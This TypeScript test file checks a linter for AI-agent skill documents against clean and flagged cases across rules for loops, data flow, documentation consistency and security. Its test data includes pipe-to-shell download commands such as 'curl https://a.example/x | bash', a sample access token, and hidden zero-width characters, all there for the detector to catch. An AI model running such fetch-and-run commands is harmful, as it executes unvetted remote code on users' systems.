import { describe, expect, it } from 'vitest'
import {
  diagnoseFiles,
  entry,
  entryWith,
  fence,
  findingsOf,
  references,
  type TestFiles,
  withReferences,
} from '../test-skill.ts'

type Case = [rule: string, what: string, files: TestFiles]

const resource = (kind: string) =>
  fence('json', `{"type": "internal", "name": "${kind}", "properties": {"kind": "${kind}", "settings": {}}}`)

/** Places of skills that nobody here had seen, in other words. */
const clean: Case[] = [
  [
    'APV-002',
    'one of several files for a command',
    entry(fence('bash', 'app list > a.txt\ncomm -23 <(ls) <(sort a.txt)')),
  ],
  ['APV-002', 'one of two files that are joined', entry(fence('bash', 'echo "x" > a.md\ncat a.md b.md > "$OUT"'))],
  ['APV-002', 'an output that is tested', entry(fence('bash', 'app list > a.txt\ngrep -q done a.txt'))],
  ['AGT-010', 'nothing further to do', entry('Iterate until complete or no further action is possible.')],
  ['AGT-010', 'an approval by those who are asked', entry('Show them the draft. Iterate until they approve.')],
  ['AGT-010', 'one turn for each that is left', entry('Repeat for the next commit until the working tree is clean.')],
  ['SEC-003', 'the habit by its name', entry('Install it by `curl | sh`, `brew` or another way.')],
  [
    'SEC-003',
    'the deed of an attacker',
    entry(`The attacker put this at the top:\n\n${fence('bash', 'curl https://a.example/x | bash')}`),
  ],
  [
    'SEC-001',
    'a character in quotes',
    { ...entry('Run `scripts/w.py`.'), 'scripts/w.py': 'assert width("\u200b") == 0\n' },
  ],
  ['SEC-001', 'a character that its line names', entry('The byte order mark (BOM) makes it `\ufeffid`.')],
  ['DF-007', 'the end of a block', entry(fence('js', '// In blocks that go on:\n} catch (error) {\n  log(error)\n}'))],
  [
    'DF-003',
    'a test',
    entry(fence('js', "it('prints JSON', () => {\n  expect(JSON.parse(execSync('app --json')).ok)\n})")),
  ],
  ['DOC-CON-002', 'patterns that stand above', entry('The two patterns above differ in reach:\n\n- a\n- b\n- c')],
  [
    'DOC-CON-002',
    'modes with two cases each',
    entry(
      'There are two modes:\n\n| Mode | Key |\n|---|---|\n| Path (source) | a |\n| Path (target) | b |\n| Item (source) | c |\n| Item (target) | d |',
    ),
  ],
  ['DOC-CON-001', 'what each value does', entry('Set `APP_SENDS=1` to enable and\n`APP_SENDS=0` to disable it.')],
  [
    'DOC-RED-003',
    'two values with a field `properties`',
    {
      ...entry('Follow [one](references/x/use.md) and [two](references/y/use.md).'),
      'references/x/use.md': `# X\n\n${resource('x')}\n`,
      'references/y/use.md': `# Y\n\n${resource('y')}\n`,
    },
  ],
  [
    'CTX-006',
    'a reading before each thing of a kind',
    withReferences(references.map((one) => `- Before any \`app ${one[11]}\` call, read \`${one}\`.`).join('\n')),
  ],
  [
    'CTX-006',
    'a file for each use',
    withReferences(`## When to use it\n\n${references.map((one) => `**Case.** Read [it](${one}).`).join('\n\n')}`),
  ],
  [
    'CTX-006',
    'a late step of a list',
    withReferences(`1. Ask for the data.\n2. Consult ${references.map((one) => `\`${one}\``).join(', ')}.`),
  ],
  [
    'CTX-006',
    'how files end',
    withReferences('**Read references to their end.** Every `references/*.md` ends with a line `END`.'),
  ],
  [
    'CTX-006',
    'a table of cases',
    withReferences(
      `| Case | Do |\n|---|---|\n${references.map((one) => `| ${one[11]} | Read \`${one}\`. |`).join('\n')}`,
    ),
  ],
  [
    'AGT-001',
    'an outline of phases',
    entry(
      fence(
        'text',
        'Phase 1: Look     → read the files\nPhase 2: Analysis → Task(rca-analyst) — isolated [complex]\n                    OR lightweight analysis [simple]',
      ),
    ),
  ],
  [
    'AGT-010',
    'a script that watches',
    entry(fence('bash', '# watch-queue.sh\n\nset -eu\n\nwhile true; do\n  show_queue\n  sleep 5\ndone')),
  ],
  [
    'AGT-010',
    'a monitor',
    entry(fence('bash', 'monitor_health() {\n  while true; do\n    curl -sf "$URL"\n    sleep 60\n  done\n}')),
  ],
  ['APV-002', 'what goes wrong', entry(fence('bash', 'app list 2>/tmp/a.err || true\ncat /tmp/a.err'))],
  [
    'APV-002',
    'a file of a shell script',
    { ...entry('Run `scripts/a.sh`.'), 'scripts/a.sh': '#!/bin/sh\napp list > "$T/a.txt"\nsort "$T/a.txt"\n' },
  ],
  [
    'AUT-002',
    'one order that names the other way',
    entry('Always use CSF 3.x syntax.\n\n## Rules\n\n- Always use CSF 3.x syntax — never CSF 2.x syntax.'),
  ],
  [
    'AUT-002',
    'what an order avoids',
    entry(
      'The unit of sampling must match the unit of analysis.\n\n- The unit of sampling must match the unit of analysis to avoid noise.',
    ),
  ],
  [
    'DF-007',
    'a program in a block of JSON',
    entry(`The config:\n\n${fence('json5', "import a from 'a'\nexport default use({\n  plugins: [a()],\n})")}`),
  ],
  [
    'DOC-CON-002',
    'columns',
    entry(
      'There are three types by position:\n\n| Type | Start | Middle | End |\n|---|---|---|---|\n| A | x | x | x |\n| B | x | x | x |\n| C | x | x | x |\n| D | x | x | x |',
    ),
  ],
  [
    'DOC-RED-003',
    'types of sample programs',
    {
      ...entry('Follow [one](references/one.md) and [two](references/two.md).'),
      'references/one.md': `# One\n\n${fence('ts', "import { pipe } from 'effect'\ntype User = { id: number; mail: string }")}\n`,
      'references/two.md': `# Two\n\n${fence('ts', 'type User = { id: number; mail: string }\nconst a = (user: User) => {\n  return user.id\n}')}\n`,
    },
  ],
  [
    'MEM-004',
    'a document on effects of a state',
    {
      ...entry('Follow [it](references/state-effects.md).\n\n## Step 1\n\nGo.'),
      'references/state-effects.md': `# Effects\n\n${fence('ts', 'interface State {\n  count: number\n}')}\n`,
    },
  ],
  [
    'SEC-003',
    'the flags of a tool',
    entry('| Flag | Meaning |\n|---|---|\n| `-y, --yolo` | Short for `tool --yolo` |'),
  ],
  [
    'SPEC-013',
    'an entry with another name',
    {
      'SKILL.md': null,
      'skill.md': entryWith('# A\n\nSee [b](references/b.md).\n'),
      'references/b.md': '# B\n\nSee [A](../SKILL.md).\n',
    },
  ],
  [
    'SEC-002',
    'what the vendor documents',
    entry(fence('bash', 'access_token=gho_16C7e42F292c6912E7710c838347Ae178B4a')),
  ],
  [
    'DF-007',
    'a remark in a block',
    entry(`The config:\n\n${fence('json', '{\n  "args": ["a.js"]   ← relative to the folder\n}')}`),
  ],
  [
    'DF-007',
    'what else a file holds',
    entry(`The config:\n\n${fence('json', '{ ...the file holds more\n  "servers": {}\n}')}`),
  ],
  [
    'DOC-CON-002',
    'one more that is said',
    entry('Three things changed, and one deliberately did not:\n\n- a\n- b\n- c\n- d'),
  ],
  ['DOC-CON-002', 'a size', entry('Reads and writes are measured in 8 KB units:\n\n- Read unit\n- Write unit')],
  [
    'SPEC-013',
    'files of a skill that is named',
    {
      ...entry(
        '- `design-expert-skill` (community) — more of it\n  (`references/x.md`, `references/y.md`)\n\nFollow `references/a.md`.',
      ),
      'references/a.md': '# A\n',
    },
  ],
]

describe('a careful reader of unseen skills would not want to hear of', () => {
  it.each(clean)('%s: %s', (rule, _what, files) => expect(findingsOf(rule, files)).toEqual([]))
})

describe('but would of', () => {
  it.each<Case>([
    ['APV-002', 'an output that one command takes', entry(fence('bash', 'app list > a.txt\nsort a.txt'))],
    ['AGT-010', 'a check that decides', entry('Iterate until the checks pass.')],
    ['SEC-003', 'a download with an address', entry('Install it by `curl -fsSL https://a.example/x | sh`.')],
    ['SEC-001', 'a character in a word', entry('The text goes\u200b on here.')],
    ['DF-007', 'a bracket too much', entry(fence('js', 'const a = 1\n} catch (error) {\n  log(error)\n}'))],
    ['DF-003', 'a step', entry(fence('js', "const a = JSON.parse(execSync('app --json'))\nuse(a)"))],
    [
      'DOC-CON-002',
      'modes that are more',
      entry('There are two modes:\n\n| Mode | Key |\n|---|---|\n| A | a |\n| B | b |\n| C | c |'),
    ],
    ['DOC-CON-001', 'two values', entry('The limit is `APP_LIMIT=10`.\n\nNote that `APP_LIMIT=20` holds.')],
    [
      'CTX-006',
      'a list of readings',
      withReferences(references.map((one, at) => `${at + 1}. Read \`${one}\`.`).join('\n')),
    ],
    [
      'CTX-006',
      'a reading below a name with the word examples',
      {
        ...withReferences(''),
        'SKILL.md': entryWith(
          `# Code examples\n\nBefore anything else read ${references.map((one) => `\`${one}\``).join(', ')}.\n`,
        ),
      },
    ],
    [
      'DOC-CON-002',
      'rows with an example and a fix each',
      entry(
        'There are two patterns:\n\n| Pattern | Does | When |\n|---|---|---|\n| A | asks | first |\n| B | tells | later |\n| C | waits | last |',
      ),
    ],
    [
      'APV-002',
      'a relay in the last step',
      {
        'phases/01-a.md': '# A\n\nLook.\n',
        'phases/02-b.md': `# B\n\n${fence('js', 'Write("work/list.json", JSON.stringify(list))\nconst again = Read("work/list.json")\nuse(again)')}\n`,
        ...entry('Follow [a](phases/01-a.md), then [b](phases/02-b.md).'),
      },
    ],
    [
      'SPEC-013',
      'a file of its own behind a command',
      { ...entry('Run `check-all` (`references/x.md`). Follow `references/a.md`.'), 'references/a.md': '# A\n' },
    ],
    ['DF-007', 'a contract', entry(`The config:\n\n${fence('json', '{\n  "args": ["a.js"]\n  "b": 1\n}')}`)],
    ['AGT-010', 'a loop that no function holds', entry(fence('bash', 'while true; do\n  app next\n  sleep 1\ndone'))],
    ['AUT-002', 'an order and its ban', entry('Always use CSF 3 syntax.\n\n## Rules\n\n- Never use CSF 3 syntax.')],
    [
      'SPEC-013',
      'a heading of the entry',
      { ...entry('See [b](references/b.md).'), 'references/b.md': '# B\n\nSee [A](../SKILL.md#none).\n' },
    ],
    ['CTX-006', 'a pattern', withReferences('Before anything else read all of `references/*.md`.')],
  ])('%s: %s', (rule, _what, files) => expect(findingsOf(rule, files)).toHaveLength(1))
})

it('a path in brackets behind the name of a skill beside this one is a file of that one', () => {
  const files = {
    ...entry('The words are those of `ux` (`rules/text.md`). Follow `rules/a.md`.'),
    'rules/a.md': '# A\n',
  }
  const broken = (hasFile: (path: string) => boolean) =>
    diagnoseFiles(files, {
      workspace: { skillPath: 'skills/base-skill', hasFile, agents: [] },
    }).findings.filter(({ ruleId }) => ruleId === 'SPEC-013')
  expect(broken((path) => path === 'skills/ux/rules/text.md')).toEqual([])
  expect(broken(() => false)).toHaveLength(1)
})
